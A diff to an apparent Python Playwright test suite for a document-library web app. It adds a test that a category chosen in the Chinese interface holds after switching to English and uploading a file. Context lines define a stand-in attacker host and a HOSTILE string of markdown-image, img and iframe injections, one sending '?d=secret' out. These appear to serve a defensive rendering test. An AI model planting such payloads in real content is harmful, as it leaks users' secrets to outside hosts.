@@ -213,6 +213,28 @@ def test_from_upload_to_a_cited_outline_in_word(tmp_path: Path) -> None:
         assert visit.strangers == []
 
 
+def test_choices_made_in_one_language_hold_in_the_other(tmp_path: Path) -> None:
+    with served(tmp_path / "home") as address, visiting(address) as visit:
+        page = visit.page
+        visit.open("library")
+        page.get_by_role("tab", name="添加").click()
+        page.get_by_text("补充信息").click()
+        page.get_by_label("种类").filter(visible=True).first.click()
+        page.get_by_role("option", name="案例").click()
+        page.get_by_text("English").click()
+        page.get_by_role("tab", name="Add", exact=True).wait_for()
+        visit.seen("by kind").wait_for()
+        visit.seen("case").wait_for()
+        assert page.get_by_text("按种类").filter(visible=True).count() == 0
+        payload = {"name": "case.md", "mimeType": "text/plain", "buffer": CASE.encode()}
+        page.locator("input[type=file]").first.set_input_files([payload])
+        page.get_by_role("button", name="Add to the library (1)").click()
+        row = page.locator("tr").filter(has_text="case.md").filter(visible=True)
+        row.wait_for(timeout=READY_SECONDS * 1000)
+        assert re.search(r"\bcase\b(?!\?|\.md)", row.inner_text())
+        assert page.get_by_test_id("stAlert").filter(has_text="not known").count() == 0
+
+
 EVIL = "http://evil.example"
 HOSTILE = (
     f"![p]({EVIL}/p.png?d=secret) <img src={EVIL}/i.png> <iframe src={EVIL}/f></iframe> [a]({EVIL}/a) "
